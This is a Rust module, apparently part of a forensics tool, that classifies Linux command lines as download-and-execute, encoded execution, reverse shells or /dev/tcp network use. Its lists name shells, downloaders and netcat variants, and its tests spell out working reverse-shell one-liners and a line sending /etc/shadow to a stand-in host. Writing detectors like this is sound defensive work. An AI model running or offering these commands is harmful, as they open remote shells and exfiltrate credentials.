//! Command lines that run what comes from the network or was hidden, and those that give a shell away.
//!
//! Judged by the programs that a line runs and how they are joined ([`commands`]), so that a line which only
//! mentions another (`grep 'curl | sh'`) isn't taken for it.

use crate::linux::command_lines::{Command, base, commands};
use ramsift_layers::Severity;

/// What is wrong with a command line.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(in crate::linux) struct Suspicion {
    pub(in crate::linux) rule: &'static str,
    pub(in crate::linux) severity: Severity,
    /// What it does.
    pub(in crate::linux) what: &'static str,
}

const DOWNLOAD: Suspicion = Suspicion {
    rule: "download_executed",
    severity: Severity::Medium,
    what: "runs what it downloads. Installers of developers' tools are started like that too",
};
const ENCODED: Suspicion = Suspicion {
    rule: "encoded_command",
    severity: Severity::Medium,
    what: "runs what it decodes first. Some installers and configuration tools do that too",
};
const REVERSE: Suspicion = Suspicion {
    rule: "reverse_shell",
    severity: Severity::High,
    what: "gives a shell to the other end of a connection",
};
const DEV_TCP: Suspicion = Suspicion {
    rule: "dev_tcp",
    severity: Severity::Medium,
    what: "talks to the network through the shell's /dev/tcp or /dev/udp. Scripts that wait for a port do that too",
};

/// Lines inside lines at most.
const DEPTH: usize = 3;

const SHELLS: [&str; 12] = [
    "sh", "bash", "dash", "zsh", "ksh", "mksh", "ash", "fish", "tcsh", "csh", "rbash", "pwsh",
];
const LOADERS: [&str; 9] = [
    "curl",
    "wget",
    "wget2",
    "fetch",
    "aria2c",
    "lwp-download",
    "GET",
    "lynx",
    "http",
];
const DECODERS: [&str; 5] = ["base64", "base32", "openssl", "xxd", "uudecode"];
const NETCATS: [&str; 5] = ["nc", "ncat", "netcat", "nc.traditional", "nc.openbsd"];

/// Whether a program is a shell.
pub(in crate::linux) fn is_shell(name: &str) -> bool {
    SHELLS.contains(&name.strip_prefix('-').unwrap_or(name))
}

/// Whether it runs programs of a language: `python3.11`, `perl`.
pub(in crate::linux) fn is_interpreter(name: &str) -> bool {
    let stem = name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    matches!(
        stem,
        "python"
            | "pypy"
            | "perl"
            | "ruby"
            | "php"
            | "node"
            | "nodejs"
            | "lua"
            | "luajit"
            | "tclsh"
            | "expect"
            | "awk"
            | "gawk"
    )
}

/// What is wrong with a command line as it was typed.
pub(in crate::linux) fn typed(line: &str) -> Option<Suspicion> {
    line_within(line, DEPTH)
}

/// What is wrong with the arguments of a process.
pub(in crate::linux) fn arguments(words: &[String]) -> Option<Suspicion> {
    let whole = Command {
        words: words.to_vec(),
        piped: false,
    };
    all(&[whole], DEPTH)
}

fn line_within(line: &str, depth: usize) -> Option<Suspicion> {
    all(&commands(line), depth)
}

fn all(commands: &[Command], depth: usize) -> Option<Suspicion> {
    let one = commands.iter().find_map(|c| single(c, depth));
    one.or_else(|| pipes(commands)).or_else(|| stored(commands))
}

/// A command by itself.
fn single(command: &Command, depth: usize) -> Option<Suspicion> {
    let (name, rest) = command.program()?;
    let redirected = |w: &String| {
        let network = w.contains("/dev/tcp/") || w.contains("/dev/udp/");
        network
            && w.trim_start_matches(|c: char| c.is_ascii_digit() || c == '&')
                .starts_with(['<', '>'])
    };
    if let Some(to) = command.words.iter().find(|w| redirected(w)) {
        let interactive = is_shell(name) && !rest.iter().any(|w| w == "-c");
        let both = rest
            .iter()
            .any(|w| matches!(w.as_str(), "0>&1" | "0<&1" | "<&1"));
        if interactive || both {
            return Some(REVERSE);
        }
        // What only asks whether a port is open sends nothing and reads nothing.
        let alone = command.words.len() == 1;
        let probe = alone || matches!(name, "echo" | ":" | "true" | "printf");
        return (!probe || to.contains("<>")).then_some(DEV_TCP);
    }
    if NETCATS.contains(&name) && runs_program(rest) {
        return Some(REVERSE);
    }
    if name == "socat" && rest.iter().any(|w| socat_runs_shell(w)) {
        return Some(REVERSE);
    }
    let code = rest.windows(2).find_map(|w| match w {
        [flag, code]
            if matches!(
                flag.as_str(),
                "-c" | "-e" | "-r" | "-lc" | "-ic" | "-Command"
            ) =>
        {
            Some(code)
        }
        _ => None,
    });
    if (is_interpreter(name) || name == "busybox")
        && let Some(found) = code.or(rest.first()).and_then(|c| program_text(c))
    {
        return Some(found);
    }
    let runs = is_shell(name)
        || matches!(name, "eval" | "source" | ".")
        || name.starts_with("$(")
        || name.starts_with('`');
    if runs && let Some(found) = substituted(&command.words) {
        return Some(found);
    }
    let carries = is_shell(name)
        || matches!(
            name,
            "su" | "ssh"
                | "eval"
                | "xargs"
                | "watch"
                | "docker"
                | "podman"
                | "kubectl"
                | "script"
                | "find"
                | "busybox"
                | "runuser"
                | "chroot"
        );
    let inner = rest
        .iter()
        .filter(|w| w.contains(char::is_whitespace) || w.contains('|'));
    if carries && depth > 0 {
        return inner.into_iter().find_map(|w| line_within(w, depth - 1));
    }
    None
}

/// `-e /bin/sh`, `-lvpe`, `--sh-exec`, of netcat.
fn runs_program(words: &[String]) -> bool {
    words.iter().enumerate().any(|(i, w)| {
        let next = words
            .get(i + 1)
            .map(|w| base(w.split(' ').next().unwrap_or(w)));
        let shell = next.is_some_and(|n| is_shell(n) || is_interpreter(n) || n == "cmd.exe");
        let long = ["--exec", "--sh-exec", "--lua-exec"]
            .iter()
            .any(|l| w.starts_with(l));
        let flags = w
            .strip_prefix('-')
            .filter(|f| !f.is_empty() && f.bytes().all(|b| b.is_ascii_alphabetic()));
        long || flags.is_some_and(|f| f.ends_with(['e', 'c']) && shell)
    })
}

/// `EXEC:bash`, `system:'/bin/sh -i'`.
fn socat_runs_shell(word: &str) -> bool {
    let lower = word.to_ascii_lowercase();
    ["exec:", "system:", "shell:"].iter().any(|kind| {
        let Some(run) = lower.strip_prefix(kind) else {
            return false;
        };
        let program = run.trim_matches(|c| c == '\'' || c == '"');
        let end = program.find([' ', ',', '\'', '"']).unwrap_or(program.len());
        is_shell(base(program.get(..end).unwrap_or_default()))
    })
}

/// A program in an interpreter's own language on its command line.
fn program_text(code: &str) -> Option<Suspicion> {
    let has = |all: &[&str]| all.iter().any(|w| code.contains(w));
    let connects = has(&[
        "socket",
        "Socket",
        "fsockopen",
        "/inet/tcp/",
        "net.connect",
        "createConnection",
        "stream_socket_client",
        "net.Socket",
    ]);
    let starts = has(&[
        "/bin/sh",
        "/bin/bash",
        "'sh'",
        "\"sh\"",
        "dup2",
        "pty.spawn",
        "cmd.exe",
        "child_process",
        "shell_exec",
        "proc_open",
        "|&",
    ]);
    if connects && starts {
        return Some(REVERSE);
    }
    let loads = has(&[
        "urlopen",
        "requests.get",
        "LWP::",
        "Net::HTTP",
        "file_get_contents('http",
        "http.get",
    ]);
    if loads && has(&["exec(", "eval(", "eval ", "os.system", "system("]) {
        return Some(DOWNLOAD);
    }
    let decodes = has(&[
        "b64decode",
        "decode_base64",
        "base64_decode",
        "Base64.decode",
        "'base64'",
        "fromhex",
    ]);
    (decodes && has(&["exec(", "eval(", "eval ", "os.system", "system("])).then_some(ENCODED)
}

/// `bash <(curl …)`, `sh -c "$(wget …)"`, `eval $(echo … | base64 -d)`.
fn substituted(words: &[String]) -> Option<Suspicion> {
    words.iter().find_map(|w| {
        let inner = ["$(", "<(", "`"].iter().find_map(|open| {
            let at = w.find(open)?;
            // A variable that is set to it is not run.
            let before = w.get(..at)?;
            let plain = !before.ends_with('=') && !before.contains("echo ");
            plain.then(|| w.get(at + open.len()..)).flatten()
        })?;
        let inner = commands(inner.trim_end_matches([')', '`', '"']));
        let names = || inner.iter().filter_map(Command::program);
        if names().any(|(n, _)| LOADERS.contains(&n)) {
            Some(DOWNLOAD)
        } else if names().any(|(n, rest)| decodes(n, rest)) {
            Some(ENCODED)
        } else {
            None
        }
    })
}

fn decodes(name: &str, rest: &[String]) -> bool {
    let flag = |w: &String| {
        matches!(
            w.as_str(),
            "-d" | "-D" | "--decode" | "-di" | "-id" | "-r" | "-rp" | "-a"
        )
    };
    name == "uudecode" || (DECODERS.contains(&name) && rest.iter().any(flag))
}

/// Whether a command runs what it reads.
fn runs_input(name: &str, rest: &[String]) -> bool {
    let (name, rest) = match (name, rest) {
        ("busybox", [applet, rest @ ..]) => (applet.as_str(), rest),
        other => other,
    };
    let plain = rest
        .iter()
        .filter(|w| !w.starts_with(['<', '>']) && !w.starts_with("2>"));
    if is_shell(name) {
        let from_input = rest
            .iter()
            .any(|w| matches!(w.as_str(), "-s" | "-" | "/dev/stdin"));
        let code = rest
            .iter()
            .any(|w| w.starts_with('-') && !w.starts_with("--") && w.ends_with('c'));
        let script = plain.clone().any(|w| !w.starts_with('-'));
        return !code && (from_input || !script);
    }
    is_interpreter(name)
        && !name.contains("awk")
        && plain
            .clone()
            .all(|w| matches!(w.as_str(), "-" | "-u" | "-s" | "/dev/stdin"))
}

/// What comes out of a download, a decoder or a connection, and is run.
fn pipes(commands: &[Command]) -> Option<Suspicion> {
    let mut source = None;
    for c in commands {
        let Some((name, rest)) = c.program() else {
            continue;
        };
        if !c.piped {
            source = None;
        }
        if let Some(found) = source
            && runs_input(name, rest)
        {
            return Some(found);
        }
        if LOADERS.contains(&name) {
            source = Some(DOWNLOAD);
        } else if decodes(name, rest) {
            source = Some(ENCODED);
        } else if NETCATS.contains(&name)
            || matches!(name, "telnet")
            || (name == "openssl" && rest.first().is_some_and(|w| w == "s_client"))
        {
            source = Some(REVERSE);
        }
    }
    // A named pipe closes the circle: mkfifo f; cat f | sh -i 2>&1 | nc host port > f
    let runs = |name: &str| {
        commands
            .iter()
            .any(|c| c.program().is_some_and(|(n, _)| n == name))
    };
    let shell = commands.iter().any(|c| {
        c.piped
            && c.program()
                .is_some_and(|(n, rest)| is_shell(n) && runs_input(n, rest))
    });
    let pipe = runs("mkfifo") || runs("mknod");
    let talks = NETCATS.iter().any(|n| runs(n)) || runs("telnet") || runs("openssl");
    (shell && pipe && talks).then_some(REVERSE)
}

/// A file that is downloaded and run by the same line.
fn stored(commands: &[Command]) -> Option<Suspicion> {
    let mut files: Vec<String> = Vec::new();
    for c in commands {
        let Some((name, rest)) = c.program() else {
            continue;
        };
        if LOADERS.contains(&name) {
            files.extend(outputs(name, rest));
            continue;
        }
        let stored = |w: &str| {
            files
                .iter()
                .any(|f| base(f) == base(w) && !base(w).is_empty())
        };
        let first = c.words.iter().find(|w| base(w) == name)?;
        let runs_file = first.contains('/') && stored(first);
        let script = rest.iter().find(|w| !w.starts_with('-'));
        let interprets = is_shell(name) || is_interpreter(name) || matches!(name, "source" | ".");
        if runs_file || (interprets && script.is_some_and(|s| stored(s))) {
            return Some(DOWNLOAD);
        }
    }
    None
}

/// Names of the files that a download writes.
fn outputs(name: &str, rest: &[String]) -> Vec<String> {
    let mut out = Vec::new();
    for (i, w) in rest.iter().enumerate() {
        let next = rest.get(i + 1).cloned();
        match w.as_str() {
            "-o" | "--output" | "--output-document" => out.extend(next),
            "-O" if name != "curl" => out.extend(next),
            _ if w.starts_with('>') => out.push(w.trim_start_matches('>').to_owned()),
            _ if w.contains("://") => out.push(base(w.split('?').next().unwrap_or(w)).to_owned()),
            _ => {}
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn rule(line: &str) -> Option<&'static str> {
        typed(line).map(|s| s.rule)
    }

    #[test]
    fn what_runs_the_unknown_is_told() {
        for (line, want) in [
            ("curl -fsSL http://192.0.2.7/x | sh", "download_executed"),
            (
                "wget -q http://192.0.2.7/x -O- | sudo bash -s -- -y",
                "download_executed",
            ),
            ("curl x | tee /tmp/a | python3 -", "download_executed"),
            ("bash <(curl -s http://192.0.2.7/x)", "download_executed"),
            (
                "sh -c \"$(wget -qO- http://192.0.2.7/x)\"",
                "download_executed",
            ),
            ("eval `curl http://192.0.2.7/x`", "download_executed"),
            (". <(curl http://192.0.2.7/x)", "download_executed"),
            (
                "ssh web1 'curl http://192.0.2.7/x | bash'",
                "download_executed",
            ),
            (
                "curl -o /tmp/x http://192.0.2.7/x; chmod +x /tmp/x && /tmp/x",
                "download_executed",
            ),
            ("wget http://192.0.2.7/i.sh && sh i.sh", "download_executed"),
            (
                "python3 -c \"import urllib.request as u; exec(u.urlopen('http://192.0.2.7/x').read())\"",
                "download_executed",
            ),
            ("echo aWQK | base64 -d | sh", "encoded_command"),
            ("base64 --decode /tmp/x | bash", "encoded_command"),
            ("eval \"$(echo aWQK | base64 -d)\"", "encoded_command"),
            (
                "python -c 'import base64; exec(base64.b64decode(\"aWQK\"))'",
                "encoded_command",
            ),
            ("bash -i >& /dev/tcp/192.0.2.7/4444 0>&1", "reverse_shell"),
            (
                "bash -c 'bash -i >& /dev/tcp/192.0.2.7/4444 0>&1'",
                "reverse_shell",
            ),
            ("nc -e /bin/sh 192.0.2.7 4444", "reverse_shell"),
            ("ncat -lvpe 4444 --sh-exec 'sh -i'", "reverse_shell"),
            ("nc 192.0.2.7 4444 -c bash", "reverse_shell"),
            (
                "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 192.0.2.7 4444 > /tmp/f",
                "reverse_shell",
            ),
            (
                "telnet 192.0.2.7 1 | /bin/sh | telnet 192.0.2.7 2",
                "reverse_shell",
            ),
            (
                "socat TCP:192.0.2.7:4444 EXEC:'bash -li',pty",
                "reverse_shell",
            ),
            (
                "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"192.0.2.7\",1));os.dup2(s.fileno(),0);pty.spawn(\"sh\")'",
                "reverse_shell",
            ),
            (
                "perl -e 'use Socket;socket(S,2,1,6);exec(\"/bin/sh -i\")'",
                "reverse_shell",
            ),
            ("cat /etc/shadow > /dev/tcp/192.0.2.7/80", "dev_tcp"),
            ("exec 5<>/dev/tcp/192.0.2.7/4444", "dev_tcp"),
        ] {
            assert_eq!(rule(line), Some(want), "{line}");
        }
    }

    #[test]
    fn everyday_lines_are_not() {
        for line in [
            "curl -s https://example.com/data.json | python3 -m json.tool",
            "curl -s x | jq . | less",
            "curl x | bash -c 'wc -l'",
            "wget http://198.51.100.7/stage2.sh -O /mnt/ramdisk/stage2.sh",
            "chmod +x /mnt/ramdisk/dropper.sh",
            "echo c2VjcmV0 | base64 -d",
            "grep -r 'curl x | sh' /etc",
            "echo \"curl x | sh\" >> notes.txt",
            "VERSION=$(curl -s https://example.com/v)",
            "sh -c 'VERSION=$(curl -s https://example.com/v); echo $VERSION'",
            "nc -l -p 31337 -s 127.0.0.1",
            "nc -zvc example.com 80",
            "socat TCP4-LISTEN:8080,fork,reuseaddr EXEC:cat",
            "timeout 1 bash -c 'echo > /dev/tcp/db/5432'",
            "cat script.sh | sh",
            "openssl s_client -connect example.com:443 | openssl x509 -noout",
            "python3 -c \"import socket; s = socket.create_connection(('192.0.2.1', 80))\"",
            "curl x; sh install.sh",
            "for i in 1 2 3; do echo $i; done",
            "wget https://example.com/a.tar.gz && tar xf a.tar.gz",
        ] {
            assert_eq!(rule(line), None, "{line}");
        }
    }

    #[test]
    fn arguments_of_processes_are_words() {
        let words = |w: &[&str]| w.iter().map(|w| (*w).to_owned()).collect::<Vec<_>>();
        let sh = words(&["sh", "-c", "curl http://192.0.2.7/x | sh"]);
        assert_eq!(arguments(&sh).map(|s| s.rule), Some("download_executed"));
        let nc = words(&["nc", "-e", "/bin/bash", "192.0.2.7", "4444"]);
        assert_eq!(arguments(&nc).map(|s| s.rule), Some("reverse_shell"));
        let vi = words(&["vi", "curl x | sh"]);
        assert_eq!(arguments(&vi), None);
    }
}
